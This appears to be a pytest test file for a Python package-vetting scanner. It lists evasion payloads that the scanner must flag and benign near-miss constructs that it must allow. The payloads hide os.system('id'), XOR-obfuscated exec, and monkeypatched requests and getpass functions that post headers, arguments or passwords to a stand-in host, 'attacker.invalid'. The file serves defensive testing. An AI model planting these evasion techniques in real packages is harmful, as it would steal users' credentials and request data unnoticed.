"""Payloads a patient adversary tries after reading ADR 0067's list of what is still allowed
(ADR 0071): code run through a dataclass field's factory, through a table of functions
called with a key that does not fold or in a loop, commands kept in a class's body, and an
XOR table built by a loop.

Each sample is inert (a command ``id``, a host ``attacker.invalid``, never run or installed:
vetting only reads files) and each was allowed on 09c35d5. Each near-miss is written the
way real packages write the same construct, and stays allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.rules import Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import RUN, init, vet_wheel, xored

POST = "urllib.request.urlopen('http://attacker.invalid/x', data={data})"


EVASIONS: dict[str, dict[str, str]] = {
    # The generated ``__init__`` calls the factory; no call of ``f`` is written.
    "dataclass-default-factory": init(
        f"import os\nfrom dataclasses import dataclass, field\n\n\ndef f():\n    {RUN}\n"
        "    return 1\n\n\n@dataclass\nclass C:\n    x: int = field(default_factory=f)\n\n\nC()\n"
    ),
    "dataclass-default-factory-lambda": init(
        "import os, dataclasses\n\n\n@dataclasses.dataclass\nclass C:\n"
        "    x: int = dataclasses.field(default_factory=lambda: os.system('id'))\n\n\n"
        "INSTANCE = C()\n"
    ),
    "attrs-factory": init(
        f"import attr, os\n\n\ndef f():\n    {RUN}\n\n\n@attr.s\nclass C:\n"
        "    x = attr.ib(default=attr.Factory(f))\n\n\nC()\n"
    ),
    "table-called-with-a-key-that-does-not-fold": init(
        "import os, sys\nH = {'a': lambda: os.system('id')}\nH[sys.platform[:0] + 'a']()\n"
    ),
    "table-of-functions-called-with-the-environments-key": init(
        "import os, urllib.request\n\n\ndef send(d):\n"
        f"    {POST.format(data='d')}\n\n\n"
        "H = {'s': send}\nH[os.environ.get('MODE', 's')](str(dict(os.environ)).encode())\n"
    ),
    "list-of-lambdas-by-index": init("import os\nL = [lambda: os.system('id')]\nL[0]()\n"),
    "list-of-lambdas-in-a-loop": init(
        "import os\nL = [lambda: os.system('id')]\nfor f in L:\n    f()\n"
    ),
    "table-values-in-a-loop": init(
        "import os\nH = {'a': lambda: os.system('id')}\nfor f in H.values():\n    f()\n"
    ),
    "table-items-in-a-loop": init(
        "import os\nH = {'id': os.system}\nfor k, f in H.items():\n    f(k)\n"
    ),
    "commands-in-a-class-attribute": init(
        "import os\n\n\nclass C:\n    cmds = ['id']\n\n\nfor c in C.cmds:\n    os.system(c)\n"
    ),
    "commands-in-a-class-attribute-read-through-self": init(
        "import os\n\n\nclass C:\n    cmds = ['id']\n\n    def __init__(self):\n"
        "        for c in self.cmds:\n            os.system(c)\n\n\nC()\n"
    ),
    "code-in-a-class-attribute": init(
        "class C:\n    code = \"import os; os.system('id')\"\n\n\nexec(C.code)\n"
    ),
    "xor-table-built-by-a-loop": init(
        "K = 7\nT = {}\nfor i in range(256):\n    T[i] = i ^ K\n"
        f"D = bytes({xored('import os;os.system(' + repr('id') + ')', 7)})\n"
        "exec(bytes(T[b] for b in D))\n"
    ),
    # Every ``import requests`` in the environment gets the archive's module (ADR 0071).
    "library-module-shadowed-by-a-module-of-the-archive": {
        "evpkg/__init__.py": "import sys\nfrom . import fake\nsys.modules['requests'] = fake\n",
        "evpkg/fake.py": (
            "import urllib.request\n\n\ndef get(url, **kw):\n"
            f"    {POST.format(data='str(kw).encode()')}\n"
        ),
    },
    "library-module-shadowed-by-an-instance": init(
        "import os, sys\n\n\nclass R:\n    def get(self, url, **kw):\n"
        f"        {RUN}\n\n\nsys.modules['requests'] = R()\n"
    ),
    # ADR 0067's sample sent to a named host instead of an IP literal: what the replaced
    # function is given (other packages' requests) is sent away.
    "replaced-function-sends-what-it-is-given": init(
        "import requests, urllib.request\n_send = requests.Session.send\n\n\n"
        "def send(self, req, **kw):\n"
        f"    {POST.format(data='str(req.headers).encode()')}\n"
        "    return _send(self, req, **kw)\n\n\nrequests.Session.send = send\n"
    ),
    "replaced-function-sends-its-packed-arguments": init(
        "import requests, urllib.request\n_get = requests.get\n\n\n"
        f"def get(*a, **kw):\n    {POST.format(data='str(kw).encode()')}\n"
        "    return _get(*a, **kw)\n\n\nrequests.get = get\n"
    ),
    # ADR 0067 left a helper given the module or class unread (numpy.distutils' shape).
    "library-function-replaced-by-a-helper-given-the-module": init(
        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
        f"    {POST.format(data='prompt.encode()')}\n\n\n"
        "def patch(mod, name, fn):\n    setattr(mod, name, fn)\n\n\n"
        "patch(getpass, 'getpass', steal)\n"
    ),
    "library-method-replaced-by-a-helper-given-the-class": init(
        "import requests, urllib.request\n\n\ndef send(self, req, **kw):\n"
        f"    {POST.format(data='str(req.headers).encode()')}\n\n\n"
        "def patch(klass, fn):\n    klass.send = fn\n\n\npatch(requests.Session, send)\n"
    ),
    "base-constructor-through-super": init(
        f"import os\n\n\nclass A:\n    def __init__(self):\n        {RUN}\n\n\n"
        "class B(A):\n    def __init__(self):\n        super().__init__()\n\n\nB()\n"
    ),
    "exit-stack-callback": init(
        f"import contextlib, os\n\n\ndef f():\n    {RUN}\n\n\n"
        "with contextlib.ExitStack() as stack:\n    stack.callback(f)\n"
    ),
    "code-built-node-by-node": init(
        "import ast, os\nm = ast.Module(body=[ast.Expr(ast.Call(ast.Attribute(ast.Name('os', "
        "ast.Load()), 'system', ast.Load()), [ast.Constant('id')], []))], type_ignores=[])\n"
        "exec(compile(ast.fix_missing_locations(m), '<x>', 'exec'))\n"
    ),
    "xor-table-over-more-keys-than-fold": init(
        "K = 7\nT = {i: i ^ K for i in range(65536)}\n"
        f"D = bytes({xored('import os;os.system(' + repr('id') + ')', 7)})\n"
        "exec(bytes(T[b] for b in D))\n"
    ),
}


def _used(method: str, use: str, returns: str = "", base: str = "") -> dict[str, str]:
    """A class whose special ``method`` runs the command, and a line that uses an instance
    the way that makes the language call it."""
    params = "(self, *a)"
    back = f"\n        return {returns}" if returns else ""
    return init(
        f"import os\n\n\nclass K{base}:\n    def {method}{params}:\n        {RUN}{back}\n\n\n"
        f"{use}\n"
    )


# A special method the language calls when the object is used, with no call written.
PROTOCOL: dict[str, dict[str, str]] = {
    "compared": _used("__eq__", "K() == 1", "True"),
    "tested": _used("__bool__", "if K():\n    pass", "True"),
    "negated": _used("__bool__", "X = not K()", "True"),
    "contains": _used("__contains__", "X = 1 in K()", "True"),
    "hashed-as-a-key": _used("__hash__", "D = {K(): 1}", "1"),
    "hashed-in-a-set": _used("__hash__", "S = {K()}", "1"),
    "formatted": _used("__format__", "X = f'{K()}'", "''"),
    "attribute-set": _used("__setattr__", "k = K()\nk.x = 1"),
    "item-set": _used("__setitem__", "k = K()\nk['a'] = 1"),
    "missing-attribute": _used("__getattr__", "X = K().x"),
    "iterated": _used("__next__", "X = list(K())", "1"),
    "reversed": _used("__reversed__", "X = reversed(K())", "iter([])"),
    "missing-key-of-a-dict": _used("__missing__", "X = K()['x']", "1", "(dict)"),
    "descriptor": init(
        f"import os\n\n\nclass D:\n    def __get__(self, obj, typ=None):\n        {RUN}\n\n\n"
        "class C:\n    x = D()\n\n\nX = C().x\n"
    ),
    "property-of-a-lambda": init(
        "import os\n\n\nclass K:\n    p = property(lambda s: os.system('id'))\n\n\nX = K().p\n"
    ),
}


@pytest.mark.parametrize("key", sorted(PROTOCOL))
def test_a_special_method_the_language_calls_on_use_is_read(key: str) -> None:
    assert vet_wheel(PROTOCOL[key]) is not Outcome.ALLOW


@pytest.mark.parametrize("key", sorted(EVASIONS))
def test_a_payload_the_walk_did_not_reach_is_not_allowed(key: str) -> None:
    assert vet_wheel(EVASIONS[key]) is not Outcome.ALLOW


NEAR_MISSES: dict[str, dict[str, str]] = {
    "dataclass-factories": init(
        "import dataclasses\nfrom dataclasses import dataclass, field\n\n\n"
        "def _defaults():\n    return {'a': 1}\n\n\n@dataclass\nclass C:\n"
        "    xs: list = field(default_factory=list)\n"
        "    d: dict = dataclasses.field(default_factory=_defaults)\n\n\nDEFAULT = C()\n"
    ),
    "attrs-factories": init(
        "import attr\n\n\n@attr.s\nclass C:\n    xs = attr.ib(factory=list)\n"
        "    ys = attr.ib(default=attr.Factory(dict))\n\n\nC()\n"
    ),
    "environment-defaults-from-a-class-attribute": init(
        "import os\n\n\nclass C:\n    NAMES = ['A', 'B']\n\n\nfor n in C.NAMES:\n"
        "    os.environ.setdefault(n, '1')\n"
    ),
    # A command a method runs when called, not on import.
    "command-kept-in-a-class-attribute": init(
        "import subprocess\n\n\nclass Git:\n    cmd = ['git', '--version']\n\n"
        "    def version(self):\n        return subprocess.check_output(self.cmd)\n"
    ),
    "platform-openers-called-in-a-function": init(
        "import subprocess, sys\nOPENERS = {\n"
        "    'darwin': lambda p: subprocess.call(['open', p]),\n"
        "    'linux': lambda p: subprocess.call(['xdg-open', p]),\n}\n\n\n"
        "def open_file(p):\n    OPENERS[sys.platform](p)\n"
    ),
    "harmless-table-called-with-the-environments-key": init(
        "import os\n\n\ndef _a(x):\n    return x + 1\n\n\ndef _b(x):\n    return x * 2\n\n\n"
        "H = {'a': _a, 'b': _b}\nN = H[os.environ.get('MODE', 'a')](3)\n"
    ),
    "setup-callbacks-in-a-loop": init(
        "import logging\n\n\ndef _setup():\n"
        "    logging.getLogger(__name__).addHandler(logging.NullHandler())\n\n\n"
        "def _register():\n    return None\n\n\n_HOOKS = [_setup, _register]\n"
        "for hook in _HOOKS:\n    hook()\n"
    ),
    "xor-table-of-data-built-by-a-loop": init(
        "T = {}\nfor i in range(256):\n    T[i] = i ^ 0x5A\nDATA = bytes(T[b] for b in b'hello')\n"
    ),
    "own-module-under-another-of-its-names": {
        "evpkg/__init__.py": (
            "import sys\nfrom . import _compat\nsys.modules['evpkg.compat'] = _compat\n"
            "sys.modules[__name__ + '.moves'] = _compat\n"
        ),
        "evpkg/_compat.py": (
            "import urllib.request\n\n\ndef fetch(url):\n"
            "    return urllib.request.urlopen(url).read()\n"
        ),
    },
    "library-under-another-librarys-name": init(
        "import json, sys\nsys.modules['simplejson'] = json\n"
    ),
    "harmless-shim-under-a-librarys-name": init(
        "import sys\n\n\nclass _Shim:\n    def get(self, url):\n        return None\n\n\n"
        "sys.modules['backport_x'] = _Shim()\n"
    ),
    # A wrapper that hands the call on to the original it saved.
    "timeout-default-patched-over-requests-get": init(
        "import requests\n_orig = requests.get\n\n\ndef get(*a, **kw):\n"
        "    kw.setdefault('timeout', 10)\n    return _orig(*a, **kw)\n\n\nrequests.get = get\n"
    ),
    "timeout-default-patched-over-session-request": init(
        "import requests\n_request = requests.Session.request\n\n\n"
        "def request(self, method, url, *a, **kw):\n    kw.setdefault('timeout', 10)\n"
        "    return _request(self, method, url, *a, **kw)\n\n\n"
        "requests.Session.request = request\n"
    ),
    "wrapper-installed-by-a-helper-given-the-class": init(
        "import logging, requests\n\n\ndef instrument(klass):\n    orig = klass.send\n\n"
        "    def send(self, req, **kw):\n"
        "        logging.getLogger(__name__).debug('%s', req.url)\n"
        "        return orig(self, req, **kw)\n\n    klass.send = send\n\n\n"
        "instrument(requests.Session)\n"
    ),
    # numpy.distutils' own shape: the compiler's command run with the environment's copy.
    "compiler-spawn-replaced-by-a-helper-given-the-class": init(
        "import os, subprocess\nfrom distutils.ccompiler import CCompiler\n\n\n"
        "def replace_method(klass, method_name, func):\n"
        "    m = lambda self, *args, **kw: func(self, *args, **kw)\n"
        "    setattr(klass, method_name, m)\n\n\n"
        "def spawn(self, cmd, display=None, env=None):\n"
        "    env = env if env is not None else dict(os.environ)\n"
        "    subprocess.check_output(cmd, stderr=subprocess.STDOUT, env=env)\n\n\n"
        "replace_method(CCompiler, 'spawn', spawn)\n"
    ),
    "constructors-chained-through-super": init(
        "class A:\n    def __init__(self, n):\n        self.n = n\n\n\n"
        "class B(A):\n    def __init__(self):\n        super().__init__(1)\n\n\nDEFAULT = B()\n"
    ),
    "exit-stack-closing-files": init(
        "import contextlib\n\n\ndef _cleanup():\n    return None\n\n\n"
        "with contextlib.ExitStack() as stack:\n    stack.callback(_cleanup)\n"
    ),
    "nodes-built-and-unparsed": init(
        "import ast\nNODE = ast.Name('x', ast.Load())\nTEXT = ast.unparse(NODE)\n"
    ),
    "parsed-code-transformed-and-compiled": init(
        "import ast\n\n\nclass T(ast.NodeTransformer):\n    def visit_Name(self, node):\n"
        "        return ast.copy_location(ast.Name(node.id.upper(), node.ctx), node)\n\n\n"
        "CODE = compile(T().visit(ast.parse('x = 1')), '<x>', 'exec')\n"
    ),
    # executing's test samples: a node from a parsed tree wrapped and evaluated on import.
    "parsed-node-wrapped-and-evaluated": init(
        "import ast\n\n\ndef check(node):\n"
        "    return eval(compile(ast.Expression(node), '<x>', 'eval'))\n\n\n"
        "X = check(ast.parse('1 + 1', mode='eval').body)\n"
    ),
    "large-table-of-data": init(
        "T = {i: i ^ 0x5A for i in range(65536)}\nDATA = bytes(T[b] for b in b'hello')\n"
    ),
    # Instances real packages make on import and use the same ways.
    "sentinel-tested-and-formatted": init(
        "class _Missing:\n    def __bool__(self):\n        return False\n\n"
        "    def __repr__(self):\n        return '<missing>'\n\n\n"
        "MISSING = _Missing()\nif not MISSING:\n    X = f'{MISSING!r}'\n"
    ),
    "lazy-module-proxy": init(
        "import importlib\n\n\nclass _Lazy:\n    def __init__(self, name):\n"
        "        self._name = name\n\n    def __getattr__(self, attr):\n"
        "        return getattr(importlib.import_module(self._name), attr)\n\n\n"
        "json = _Lazy('json')\nDUMPS = json.dumps\n"
    ),
    "versions-compared-and-hashed": init(
        "class V:\n    def __init__(self, s):\n"
        "        self.parts = tuple(int(p) for p in s.split('.'))\n\n"
        "    def __lt__(self, o):\n        return self.parts < o.parts\n\n"
        "    def __hash__(self):\n        return hash(self.parts)\n\n\n"
        "OLD = V('1.0') < V('2.0')\nSEEN = {V('1.0')}\n"
    ),
    "environment-proxy": init(
        "import os\n\n\nclass _Env:\n    def __setattr__(self, k, v):\n"
        "        os.environ[k] = str(v)\n\n    def __getattr__(self, k):\n"
        "        return os.environ.get(k)\n\n\n"
        "ENV = _Env()\nENV.MY_LIB_MODE = 'fast'\nMODE = ENV.MY_LIB_MODE\n"
    ),
    "counting-iterator": init(
        "class Count:\n    def __init__(self):\n        self.n = 0\n\n"
        "    def __iter__(self):\n        return self\n\n    def __next__(self):\n"
        "        self.n += 1\n        if self.n > 3:\n            raise StopIteration\n"
        "        return self.n\n\n\nNUMS = list(Count())\n"
    ),
}


@pytest.mark.parametrize("key", sorted(NEAR_MISSES))
def test_the_same_construct_written_as_real_packages_write_it_stays_allowed(key: str) -> None:
    assert vet_wheel(NEAR_MISSES[key]) is Outcome.ALLOW


def test_a_replacement_by_a_helper_is_read_only_for_what_it_sends() -> None:
    # numpy's wheel has three such replacements in one file: read as running on import,
    # their compiler runs were three medium findings there, and the wheel was held.
    files = NEAR_MISSES["compiler-spawn-replaced-by-a-helper-given-the-class"]
    report = vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files)))
    assert [f.severity for f in report.findings] == [Severity.LOW]
